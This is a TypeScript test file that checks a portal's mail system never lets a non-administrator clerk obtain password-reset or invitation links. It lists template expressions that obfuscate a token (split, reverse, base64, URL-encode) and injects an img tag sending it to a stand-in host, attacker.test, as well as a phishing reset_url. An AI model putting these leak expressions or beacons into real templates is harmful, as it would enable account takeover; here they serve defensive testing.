import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  createTestAdmin,
  createTestApp,
  createTestUser,
  loginAs,
  requestsTo,
  type TestContext,
  uniqueMail,
} from '../../../test/setup-app';
import { waitFor } from '../../../test/smtp-server';
import { findPermissionsByTitle } from '../permissions/permissions.repository';
import { insertRole, replaceRolePermissions } from '../roles/roles.repository';
import { deliverMailJob } from '../sent-mails/sent-mails.jobs';
import { mailOutbox } from '../sent-mails/sent-mails.schema';
import { sendPasswordResetJob } from './account-links.jobs';

/**
 * Account links (invitation, password reset) are credentials (ADR 0034). A back-office user who may edit
 * mail templates and read the sent-mail viewer, the previews and the audit trail, but is no administrator,
 * must never get hold of a usable link: not by editing the templates of those mails, and not by reading
 * what a template (even one an administrator wrote) does with the link.
 */

const PUBLIC_URL = 'https://portal.cuspid.test';
const NEW_PASSWORD = 'Taken#Over42';

let ctx: TestContext;
let admin: string;
/** Holds the mail-template, assignment and audit-trail permissions of the back office, not the admin role. */
let clerk: string;
const original = new Map<string, { id: string; body: Record<string, unknown> }>();

const { get, post } = requestsTo(() => ctx.app);

type SecretEvent = 'user.password-reset' | 'user.invitation';
const VARIABLE: Record<SecretEvent, string> = {
  'user.password-reset': 'reset_url',
  'user.invitation': 'set_password_url',
};

/** Ways a template can write the link so that hiding the link "as written" misses it. */
const LEAKS: { name: string; expression: (variable: string) => string }[] = [
  { name: 'plain output', expression: (v) => `{{ ${v} }}` },
  { name: 'split/join', expression: (v) => `{{ ${v} | split: "" | join: " " }}` },
  { name: 'slice', expression: (v) => `{{ ${v} | slice: 0, 60 }}|{{ ${v} | slice: 60, 200 }}` },
  { name: 'reverse', expression: (v) => `{{ ${v} | split: "" | reverse | join: "" }}` },
  { name: 'url_encode', expression: (v) => `{{ ${v} | url_encode }}` },
  { name: 'base64_encode', expression: (v) => `{{ ${v} | base64_encode }}` },
  { name: 'append', expression: (v) => `{{ "go to " | append: ${v} | append: "#end" }}` },
];

const safely = (decode: (s: string) => string) => (s: string) => {
  try {
    return decode(s);
  } catch {
    return s;
  }
};

/** Undoes each transformation above on a whole answer, so a link written in any of these forms shows up. */
const DECODERS: ((s: string) => string)[] = [
  (s) => s,
  (s) => s.replace(/\s+/g, ''),
  (s) => s.replaceAll('|', ''),
  (s) => [...s].reverse().join(''),
  safely((s) => s.replace(/(%[0-9A-Fa-f]{2})+/g, (run) => decodeURIComponent(run))),
  (s) => s.replace(/[A-Za-z0-9+/]{24,}={0,2}/g, (run) => ` ${Buffer.from(run, 'base64').toString('latin1')} `),
];

/** Every token that any decoding of the texts shows after `token=`. */
function tokensIn(texts: string[]): Set<string> {
  const found = new Set<string>();
  for (const text of texts) {
    for (const decode of DECODERS) {
      for (const match of decode(text).matchAll(/token=([A-Za-z0-9_-]{43})/g)) found.add(match[1]!);
    }
  }
  return found;
}

/** Whether a decoding of the texts holds the token, in any of the forms above. */
const revealed = (texts: string[], token: string) => texts.some((t) => DECODERS.some((d) => d(t).includes(token)));

async function templateOf(event: SecretEvent) {
  const list = await get('/api/mail-template-assignments', admin);
  const id = list.json().data.find((a: { event: string }) => a.event === event).template_id as string;
  const template = (await get(`/mail/list-mail-template-by-id?id=${id}`, admin)).json();
  return {
    id,
    body: {
      id,
      name: template.name,
      event: template.event,
      contents: template.contents,
      variables: template.variables,
    },
  };
}

/** The event's template with a leaking expression added to subject-free places of every language's body. */
function withLeak(template: { body: Record<string, unknown> }, expression: string) {
  const contents = template.body.contents as Record<string, { subject: string; body: string }>;
  return {
    ...template.body,
    contents: Object.fromEntries(
      Object.entries(contents).map(([lang, c]) => [
        lang,
        { subject: c.subject, body: `${c.body}<p>${expression}</p><img src="https://attacker.test/p?${expression}">` },
      ]),
    ),
  };
}

beforeAll(async () => {
  ctx = await createTestApp({ PUBLIC_URL, PASSWORD_RESET_MAX_PER_HOUR: '100' });
  await ctx.deps.jobs.work(ctx.deps, { only: [deliverMailJob.name, sendPasswordResetJob.name] });
  admin = (await loginAs(ctx.app, (await createTestAdmin(ctx.deps)).mail)).token;
  const role = await insertRole(ctx.deps.db, { name: `mail-clerk-${uniqueMail()}`, title: 'Mail clerk' });
  const granted = await findPermissionsByTitle(ctx.deps.db, [
    'backoffice-mail-template',
    'backoffice-mail-template-assignment',
    'backoffice-audit-log',
  ]);
  expect(granted).toHaveLength(3);
  await replaceRolePermissions(
    ctx.deps.db,
    role.id,
    granted.map((p) => p.id),
  );
  const user = await createTestUser(ctx.deps, { roles: [role.name], staff: true });
  clerk = (await loginAs(ctx.app, user.mail)).token;
  for (const event of Object.keys(VARIABLE) as SecretEvent[]) original.set(event, await templateOf(event));
});

afterAll(async () => {
  // Other test files on a shared PostgreSQL database send these mails too: leave the templates as found.
  for (const template of original.values()) await post('/mail/update-mail-template', template.body, admin);
  await ctx?.close();
});

describe('templates of mails that carry an account link', () => {
  it.each(LEAKS)('only an administrator may change them or assign another one ($name)', async ({ expression }) => {
    for (const [event, variable] of Object.entries(VARIABLE) as [SecretEvent, string][]) {
      const template = original.get(event)!;
      const leaking = withLeak(template, expression(variable));

      const update = await post('/mail/update-mail-template', leaking, clerk);
      expect(update.statusCode, update.body).toBe(403);
      expect(update.json()).toMatchObject({
        code: 'MAIL_LINK_TEMPLATE_ADMIN_ONLY',
        message: expect.stringMatching(/administrator/),
      });

      const { id: _id, ...fresh } = leaking as Record<string, unknown>;
      const create = await post('/mail/create-mail-template', { ...fresh, name: `Copy ${uniqueMail()}` }, clerk);
      expect(create.statusCode, create.body).toBe(403);

      // A free template of the clerk's, then assigned to the event.
      const free = await post(
        '/mail/create-mail-template',
        { ...fresh, event: null, name: `Free ${uniqueMail()}` },
        clerk,
      );
      expect(free.statusCode, free.body).toBe(201);
      const assign = await post(
        '/api/mail-template-assignments',
        { assignments: [{ event, template_id: free.json().id }] },
        clerk,
      );
      expect(assign.statusCode, assign.body).toBe(403);
      expect(assign.json().message).toMatch(/administrator/);

      const remove = await post('/mail/delete-mail-template', { id: template.id }, clerk);
      expect(remove.statusCode, remove.body).toBe(403);

      // Nothing changed.
      expect((await templateOf(event)).body).toEqual(template.body);
    }
  });

  it('leaves the other templates and assignments to the back office', async () => {
    const created = await post(
      '/mail/create-mail-template',
      {
        name: `Free ${uniqueMail()}`,
        event: null,
        contents: { en: { subject: 'Hi', body: '<p>Hi</p>' } },
        variables: [],
      },
      clerk,
    );
    expect(created.statusCode).toBe(201);
    const assignments = (await get('/api/mail-template-assignments', admin)).json().data as {
      event: string;
      template_id: string | null;
    }[];
    const welcome = assignments.find((a) => a.event === 'ticket.answered')!;
    // Saving an unchanged assignment of a link mail alongside is no change to it.
    const reset = assignments.find((a) => a.event === 'user.password-reset')!;
    const saved = await post(
      '/api/mail-template-assignments',
      {
        assignments: [
          { event: welcome.event, template_id: welcome.template_id },
          { event: reset.event, template_id: reset.template_id },
        ],
      },
      clerk,
    );
    expect(saved.statusCode, saved.body).toBe(200);
  });
});

describe('POST /mail/send-mail of a mail that carries an account link', () => {
  it.each([
    ['the event', () => ({ event: 'user.password-reset' })],
    ['its template', () => ({ template_id: original.get('user.password-reset')!.id })],
  ])("never takes the caller's link, when naming %s", async (_, chosen) => {
    const to = uniqueMail('phished');
    const sent = await post(
      '/mail/send-mail',
      { ...chosen(), to, variables: { first_name: 'Ann', reset_url: 'https://attacker.test/steal' } },
      clerk,
    );
    expect(sent.statusCode, sent.body).toBe(202);
    const row = await waitFor(async () => {
      const [found] = await ctx.deps.db.select().from(mailOutbox).where(eq(mailOutbox.to, to));
      return found?.status === 'sent' ? found : undefined;
    });
    expect(row.variables).toEqual({ first_name: 'Ann', reset_url: '[link hidden]' });
    expect(row.html).toContain('Ann');
    expect(`${row.html}${row.text}`).not.toContain('attacker.test');
  });
});

describe('whatever a template does with an account link, a non-administrator never reads a usable one', () => {
  it.each(LEAKS)('$name', async ({ expression }) => {
    // Only an administrator may write these templates; even a careless one must not leak the link.
    for (const [event, variable] of Object.entries(VARIABLE) as [SecretEvent, string][]) {
      const saved = await post(
        '/mail/update-mail-template',
        withLeak(original.get(event)!, expression(variable)),
        admin,
      );
      expect(saved.statusCode, saved.body).toBe(200);
    }

    // The test can decode every form: a preview with a known link shows it to the decoder.
    const known = `${PUBLIC_URL}/reset-password?token=${'Kn0wn-_'.repeat(6)}K`;
    const probe = await post(
      '/mail/preview-mail-template',
      {
        contents: withLeak(original.get('user.password-reset')!, expression('reset_url')).contents.en,
        variables: { reset_url: known },
      },
      admin,
    );
    expect(probe.statusCode, probe.body).toBe(200);
    expect(tokensIn([probe.body])).toContain(new URL(known).searchParams.get('token'));

    // A password reset for an administrator, and an invitation.
    const victim = await createTestAdmin(ctx.deps);
    expect((await post('/auth/forgot-password', { mail: victim.mail })).statusCode).toBe(202);
    const invitedMail = uniqueMail('invited');
    const invited = await post('/auth/create-user', { mail: invitedMail, first_name: 'Ines' }, admin);
    expect(invited.statusCode, invited.body).toBe(201);

    const delivered = async (to: string) =>
      waitFor(async () => {
        const [row] = await ctx.deps.db.select().from(mailOutbox).where(eq(mailOutbox.to, to));
        return row?.status === 'sent' ? row : undefined;
      });
    const resetRow = await delivered(victim.mail);
    const inviteRow = await delivered(invitedMail);
    const realTokens = [resetRow, inviteRow].map(
      (row) =>
        new URL(String(Object.values(row.variables).find((v) => String(v).startsWith(PUBLIC_URL)))).searchParams.get(
          'token',
        )!,
    );
    expect(realTokens.every((t) => t.length === 43)).toBe(true);

    // Everything the clerk can read about these mails.
    const read: string[] = [];
    for (const row of [resetRow, inviteRow]) {
      const list = await get(`/mail/list-sent-mails?search=${encodeURIComponent(row.to)}`, clerk);
      expect(list.statusCode).toBe(200);
      expect(list.json().data).toHaveLength(1);
      const one = await get(`/mail/list-sent-mail-by-id?id=${row.id}`, clerk);
      expect(one.statusCode).toBe(200);
      expect(one.json().html).toMatch(/<p>.+<\/p>/);
      read.push(list.body, one.body);
    }
    for (const template of original.values()) {
      read.push((await get(`/mail/list-mail-template-by-id?id=${template.id}`, clerk)).body);
    }
    for (const [event, variable] of Object.entries(VARIABLE) as [SecretEvent, string][]) {
      const contents = withLeak(original.get(event)!, expression(variable)).contents.en;
      const preview = await post('/mail/preview-mail-template', { contents, variables: {} }, clerk);
      expect(preview.statusCode, preview.body).toBe(200);
      read.push(preview.body);
      const to = uniqueMail('clerk-inbox');
      const sent = await post('/mail/send-mail', { event, to, variables: {} }, clerk);
      expect(sent.statusCode, sent.body).toBe(202);
      await delivered(to);
      read.push((await get(`/mail/list-sent-mail-by-id?id=${sent.json().id}`, clerk)).body);
    }
    for (const query of [
      '?per_page=100',
      `?entity_id=${victim.id}`,
      `?entity_id=${invited.json().user_id}`,
      ...[...original.values()].map((t) => `?entity_id=${t.id}`),
    ]) {
      const audit = await get(`/api/audit-log${query}`, clerk);
      expect(audit.statusCode, audit.body).toBe(200);
      read.push(audit.body);
    }

    for (const token of realTokens) expect(revealed(read, token)).toBe(false);
    for (const token of tokensIn(read)) {
      expect((await post('/auth/reset-password', { token, password: NEW_PASSWORD })).statusCode).not.toBe(200);
      expect((await post('/auth/accept-invitation', { token, password: NEW_PASSWORD })).statusCode).not.toBe(200);
    }
  });

  it('administrators still read the link in the viewer when no SMTP server delivers it (ADR 0034)', async () => {
    for (const template of original.values()) await post('/mail/update-mail-template', template.body, admin);
    const victim = await createTestUser(ctx.deps);
    expect((await post('/auth/forgot-password', { mail: victim.mail })).statusCode).toBe(202);
    const row = await waitFor(async () => {
      const [found] = await ctx.deps.db.select().from(mailOutbox).where(eq(mailOutbox.to, victim.mail));
      return found?.status === 'sent' ? found : undefined;
    });
    const asAdmin = (await get(`/mail/list-sent-mail-by-id?id=${row.id}`, admin)).json();
    const [token] = tokensIn([asAdmin.html, asAdmin.text]);
    expect(token).toBeDefined();
    const asClerk = (await get(`/mail/list-sent-mail-by-id?id=${row.id}`, clerk)).json();
    expect(`${asClerk.html}${asClerk.text}${asClerk.subject}`).not.toContain(token);
    expect((await post('/auth/reset-password', { token, password: NEW_PASSWORD })).statusCode).toBe(200);
  });
});
